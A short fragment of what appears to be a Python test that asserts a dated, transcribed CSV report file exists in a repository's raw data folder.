    # 001 l.153: the figures the line dates ("transcribed__2016-09-30__001-report.csv")
    assert (REPO / "raw" / "lgbf" / "transcribed__2016-09-30__001-report.csv").exists()
